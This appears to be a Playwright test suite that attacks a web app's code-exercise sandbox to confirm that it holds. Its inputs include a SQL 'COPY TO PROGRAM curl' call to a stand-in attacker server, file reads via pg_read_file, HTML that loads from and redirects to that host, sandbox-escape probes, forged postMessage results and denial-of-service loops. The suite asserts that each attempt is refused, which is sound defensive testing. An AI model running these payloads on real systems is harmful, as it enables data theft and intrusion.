import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Page } from '@playwright/test'
import type {
  ExerciseRun,
  RunnableExercise,
} from '../apps/web/src/features/exercises/running/exercise-runner.ts'
import type { ExerciseKind, ExerciseTest } from '../packages/contract/src/exercises.ts'
import { loadRunner, runInPage } from './exercise-runner.ts'
import { newPerson, signUp } from './person.ts'
import { expect, test } from './testing.ts'

const secret = 'the-answer-nobody-tells'

/** A test that only code which knows the secret could pass. */
const unpassable: ExerciseTest = {
  name: 'asks for what nobody can know',
  isHidden: true,
  probe: 'answer()',
  compare: 'equal',
  expected: JSON.stringify(secret),
}

const exercise = (kind: ExerciseKind, given: Partial<RunnableExercise> = {}): RunnableExercise => ({
  kind,
  schema: null,
  flags: null,
  tests: [unpassable],
  ...given,
})

const asking = (probe: string, given: Partial<ExerciseTest> = {}): Partial<RunnableExercise> => ({
  tests: [{ ...unpassable, probe, ...given }],
})

let page: Page
/** A server that nothing may reach, and what reached it. */
let evil = ''
let arrived: string[] = []
/** What our own server was asked for, runners apart, and answered. */
let answered: string[] = []

const evilServer = createServer((request, response) => {
  arrived.push(request.url ?? '')
  response.end()
})

// One signed-in person with something to steal, for all attacks.
test.beforeAll(async ({ browser }) => {
  evilServer.listen(0, '127.0.0.1')
  await once(evilServer, 'listening')
  evil = `http://127.0.0.1:${(evilServer.address() as AddressInfo).port}`
  page = await (await browser.newContext()).newPage()
  await signUp(page, newPerson())
  await page.evaluate(() => localStorage.setItem('stolen', 'mine'))
  await page.context().addCookies([{ name: 'stolen', value: 'mine', url: page.url() }])
  await loadRunner(page)
  page.on('response', (response) => {
    if (!/\/exercise-cages\/|^blob:/.test(response.url())) answered.push(response.url())
  })
})

test.afterAll(async () => {
  await page.context().close()
  evilServer.close()
})

test.beforeEach(() => {
  arrived = []
  answered = []
})

const run = async (work: RunnableExercise, code: string): Promise<ExerciseRun> => {
  const [only] = await runInPage(page, { exercise: work, codes: [code] })
  if (!only) throw new Error('Nothing ran.')
  return only
}

/** What an attack got hold of: what its test's expression gave. */
const got = async (work: RunnableExercise, code: string): Promise<unknown> => {
  const { results } = await run(work, code)
  const text = results[0]?.got
  return typeof text === 'string' ? JSON.parse(text) : results[0]?.error
}

/** Whatever got out. */
const leaks = () => [...arrived, ...answered]

/** Runs code and notices for how long the page could not do anything else. */
const runWatched = async (work: RunnableExercise, code: string) => {
  await page.evaluate(() => {
    const watch = globalThis as unknown as { longestGap: number }
    watch.longestGap = 0
    let last = performance.now()
    setInterval(() => {
      watch.longestGap = Math.max(watch.longestGap, performance.now() - last)
      last = performance.now()
    }, 20)
  })
  const result = await run(work, code)
  const gap = await page.evaluate(() => (globalThis as unknown as { longestGap: number }).longestGap)
  return { result, gap }
}

// A busy machine may pause any page for a moment. Code that hangs is stopped after three seconds at the earliest.
const blockedMs = 2500

const expectStopped = async (work: RunnableExercise, code: string) => {
  const { result, gap } = await runWatched(work, code)
  expect(result.passed).toBe(false)
  expect(result.results[0]?.status).not.toBe('passed')
  expect(gap).toBeLessThan(blockedMs)
  expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0)
}

test.describe('JavaScript', () => {
  const names = [
    'fetch XMLHttpRequest WebSocket EventSource WebTransport importScripts navigator location',
    'indexedDB caches localStorage sessionStorage cookieStore document window parent top self',
    'Worker SharedWorker BroadcastChannel MessageChannel MessagePort postMessage onmessage addEventListener',
    'WebAssembly SharedArrayBuffer Atomics ArrayBuffer Uint8Array Blob URL Request Response Notification',
  ]
    .join(' ')
    .split(' ')

  test('1. finds no network, storage, page, messages or raw memory', async () => {
    const code = `const names = ${JSON.stringify(names)}; const answer = () => names.filter((name) => globalThis[name] !== undefined)`
    expect(await got(exercise('javascript'), code)).toEqual([])
  })

  test('2. finds them by no constructor, prototype or error either', async () => {
    const code = `const answer = () => {
      const roots = [Function, (async () => {}).constructor, (function* () {}).constructor].map((make) => make('return this')())
      Error.prepareStackTrace = (_, calls) => calls.map((call) => call.getThis()).filter(Boolean)
      const stack = new Error().stack
      const protos = []
      for (let at = globalThis; at; at = Object.getPrototypeOf(at)) protos.push(...Object.getOwnPropertyNames(at))
      return [...roots, ...stack].map((root) => typeof root.fetch).concat(protos.filter((name) => /fetch|worker|indexedDB|postMessage|port/i.test(name)))
    }`
    expect(new Set((await got(exercise('javascript'), code)) as string[])).toEqual(new Set(['undefined']))
  })

  test('3. cannot import from our server, from elsewhere or from an address in text', async () => {
    const code = `const answer = async () => {
      const got = []
      for (const from of [${JSON.stringify(page.url())}, '${evil}/x.js', 'data:text/javascript,export default 1'])
        got.push(await import(from).then(() => 'imported', () => 'refused'))
      return got
    }`
    expect(await got(exercise('javascript'), code)).toEqual(['refused', 'refused', 'refused'])
    expect(leaks()).toEqual([])
  })

  test('4. prints and throws PASS in vain', async () => {
    const code = `console.log('PASS', JSON.stringify({ passed: true })); const answer = () => { console.log('PASS'); throw 'PASS' }`
    expect((await run(exercise('javascript'), code)).passed).toBe(false)
  })

  test('5. forges no result by changing what the language brings', async () => {
    const code = `
      JSON.stringify = JSON.parse = () => '"${secret}"'
      String.prototype.toString = Object.prototype.toString = Object.prototype.toJSON = () => '${secret}'
      Object.prototype.passed = Object.prototype.done = true
      Array.prototype.every = Array.prototype.entries = () => true
      Promise.prototype.then = () => ({ passed: true })
      Object.prototype.then = (resolve) => resolve(true)
      const answer = () => ({ toJSON: () => 'guess', passed: true, done: true })`
    expect((await run(exercise('javascript'), code)).passed).toBe(false)
  })

  test('6. cannot see what would pass', async () => {
    const code = `const answer = () => { let seen = ''; try { null.x } catch (error) { seen += error.stack } return seen + answer.caller + JSON.stringify(Object.getOwnPropertyNames(globalThis)) }`
    expect(JSON.stringify(await run(exercise('javascript'), code))).not.toContain(secret)
  })

  test('7. leaves nothing behind for the next run', async () => {
    const codes = [
      'globalThis.trap = 1; Array.prototype.trap = 1; const answer = () => 1',
      'const answer = () => [typeof trap, typeof [].trap]',
    ]
    const [, second] = await runInPage(page, { exercise: exercise('javascript'), codes })
    expect(second?.results[0]?.got).toBe('["undefined","undefined"]')
  })

  test('8. is stopped when it loops without end', async () => {
    await expectStopped(exercise('javascript'), 'const answer = () => { while (true) {} }')
  })

  test('9. is stopped when it loops before any test', async () => {
    await expectStopped(exercise('javascript'), 'for (;;) {}')
  })

  test('10. is stopped when it promises without end', async () => {
    await expectStopped(
      exercise('javascript'),
      'const answer = async () => { while (true) await null }; Promise.resolve().then(function again() { return Promise.resolve().then(again) })',
    )
  })

  test('11. is stopped when it fills the memory', async () => {
    await expectStopped(
      exercise('javascript'),
      'const answer = () => { const all = []; for (;;) all.push(new Array(1e5).fill(all.length)) }',
    )
  })

  test('12. fails on endless recursion and on results without end', async () => {
    await expectStopped(exercise('javascript'), 'const answer = () => answer()')
    await expectStopped(exercise('javascript'), "const answer = () => 'x'.repeat(3e7)")
    await expectStopped(exercise('javascript'), 'const answer = () => { const a = []; a.push(a); return a }')
  })

  test('13. floods the page with nothing', async () => {
    await expectStopped(
      exercise('javascript'),
      "setInterval(() => console.log('x'.repeat(1e6))); const answer = () => { for (let n = 0; n < 1e4; n++) console.log('x'.repeat(1e4)) }",
    )
  })
})

test.describe('Python', () => {
  test('14. finds no page, network or storage through its bridge', async () => {
    const code =
      'import js\ndef answer():\n    names = ["fetch", "document", "localStorage", "indexedDB", "XMLHttpRequest", "WebSocket", "postMessage", "importScripts", "Worker", "caches"]\n    return [name for name in names if hasattr(js, name) and getattr(js, name) is not None and str(getattr(js, name)) != "undefined"]\n'
    const found = await got(exercise('python'), code)
    expect(Array.isArray(found) ? found : []).toEqual([])
    expect(leaks()).toEqual([])
  })

  test('15. is stopped when it loops, recurses or fills the memory', async () => {
    await expectStopped(exercise('python'), 'def answer():\n    while True: pass\n')
    await expectStopped(exercise('python'), 'def answer():\n    return answer()\n')
    await expectStopped(exercise('python'), 'def answer():\n    return "x" * 10 ** 9\n')
  })
})

test.describe('SQL', () => {
  test('16. reaches no program, file of ours or server', async () => {
    for (const code of [
      `COPY (SELECT 1) TO PROGRAM 'curl ${evil}'`,
      `SELECT pg_read_file('${process.cwd()}/package.json')`,
      "CREATE EXTENSION dblink; SELECT dblink_connect('host=127.0.0.1')",
    ]) {
      const { passed, results } = await run(exercise('sql', asking('')), code)
      expect({ passed, error: Boolean(results[0]?.error) }).toEqual({ passed: false, error: true })
    }
    expect(leaks()).toEqual([])
  })

  test('17. is stopped when a query never ends', async () => {
    await expectStopped(
      exercise('sql', asking('')),
      'WITH RECURSIVE endless(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM endless) SELECT count(*) FROM endless',
    )
  })
})

test.describe('Regular expressions', () => {
  test('18. are stopped when they never end', async () => {
    const tests = { ...asking('test', { setup: `${'a'.repeat(60)}!` }), flags: '' }
    await expectStopped(exercise('regex', tests), '^(a+)+$')
  })
})

test.describe('HTML and CSS', () => {
  const markup = () => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">
    <base href="${evil}/"><link rel="stylesheet" href="${evil}/a.css"><link rel="dns-prefetch" href="${evil}">
    <style>@import url(${evil}/b.css); p { background: url(${evil}/c.png) } @font-face { font-family: x; src: url(${evil}/f.woff2) } p { font-family: x }</style>
    <img src="${evil}/d.png" onerror="document.title='ran'"><script>document.title = 'ran'</script>
    <svg onload="document.title='ran'"><script>document.title='ran'</script></svg><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
    <form action="${evil}/form"><button autofocus onfocus="document.title='ran'">x</button></form>
    <object data="${evil}/o"></object><video src="${evil}/v" autoplay></video>
    <a href="javascript:document.title='ran'">x</a><p>text</p>`

  test('19. run no script and load nothing', async () => {
    const { results } = await run(
      exercise('html', {
        tests: [
          { ...unpassable, probe: 'text p', expected: '"text"' },
          { ...unpassable, probe: 'text title', compare: 'missing', expected: '' },
          { ...unpassable, probe: 'count script, iframe, object, base, link', expected: '0' },
        ],
      }),
      markup(),
    )
    expect(results.map(({ status }) => status)).toEqual(['passed', 'passed', 'passed'])
    expect(leaks()).toEqual([])
  })
})

// Behind all of this stands the frame itself. Here the attacker runs in it, outside any worker, with every name there is.
const inFrame = async (path: string, attack: (frame: Frame) => Promise<void>) => {
  await page.evaluate(
    (src) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement('iframe')
        frame.setAttribute('sandbox', 'allow-scripts')
        frame.id = 'breached'
        frame.src = src
        frame.onload = () => resolve()
        document.body.append(frame)
      }),
    path,
  )
  const frame = page.frames().find((one) => one.url().endsWith(path))
  if (!frame) throw new Error('The frame is missing.')
  await attack(frame)
  await page.evaluate(() => document.getElementById('breached')?.remove())
}

for (const [number, path] of [
  [20, '/exercise-cages/code.html'],
  [21, '/exercise-cages/markup.html'],
] as const)
  test(`${number}. Even code that breaks into ${path} has no origin, storage, network or way out`, async () => {
    await inFrame(path, async (frame) => {
      const found = await frame.evaluate(async (evil) => {
        const attempt = async (action: () => unknown) => {
          try {
            return String(await action())
          } catch {
            return 'refused'
          }
        }
        return {
          origin: globalThis.origin,
          storage: await attempt(() => localStorage.length),
          cookies: await attempt(() => document.cookie),
          database: await attempt(() => indexedDB.open('x')),
          page: await attempt(() => parent.document.body.innerHTML),
          session: await attempt(() => fetch('/auth/get-session', { credentials: 'include' })),
          foreign: await attempt(() => fetch(`${evil}/`)),
          beacon: await attempt(() => navigator.sendBeacon(`${evil}/`) && 'sent'),
          socket: await attempt(
            () =>
              new Promise((resolve, reject) => {
                const socket = new WebSocket(evil.replace('http', 'ws'))
                socket.onopen = () => resolve('open')
                socket.onerror = reject
              }),
          ),
          popup: await attempt(() => window.open(`${evil}/`)),
          top: await attempt(() => {
            top?.location.assign(`${evil}/`)
            return 'left'
          }),
        }
      }, evil)
      expect(found).toMatchObject({
        origin: 'null',
        storage: 'refused',
        cookies: 'refused',
        database: 'refused',
        page: 'refused',
        session: 'refused',
        foreign: 'refused',
        socket: 'refused',
        popup: 'null',
      })
      expect(leaks()).toEqual([])
    })
    expect(page.url()).toContain('localhost')
  })

test('22. A frame that leads away stays on our server', async () => {
  await inFrame('/exercise-cages/code.html', async (frame) => {
    await frame
      .evaluate((evil) => {
        location.href = `${evil}/secret`
      }, evil)
      .catch(() => {})
    await expect.poll(() => page.frames().map((one) => one.url())).not.toContain(`${evil}/secret`)
  })
  expect(leaks()).toEqual([])
})

test('23. A message posted to the page from a frame is heard by nobody', async () => {
  const forged = `const frame = document.querySelector('iframe'); for (const data of [{ ready: true }, { id: '*', test: 0, got: '"x"', passed: true }, { id: '*', done: true, passed: true }]) postMessage(data, '*')`
  const work = page.evaluate(forged)
  expect((await run(exercise('javascript'), 'const answer = () => 1')).passed).toBe(false)
  await work
})

test('24. Afterwards the session, the storage and the page are as they were', async () => {
  expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBe('mine')
  const answer = await page.request.get('/auth/get-session')
  expect(answer.ok()).toBe(true)
  expect(await page.evaluate(() => document.title)).not.toBe('ran')
})
